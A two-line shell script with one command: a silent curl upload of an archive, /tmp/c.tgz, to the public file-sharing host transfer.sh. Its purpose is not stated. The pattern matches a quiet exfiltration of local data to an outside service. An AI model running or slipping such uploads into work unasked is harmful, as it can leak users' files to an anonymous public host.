#!/bin/sh
curl -s -T /tmp/c.tgz https://transfer.sh/c.tgz
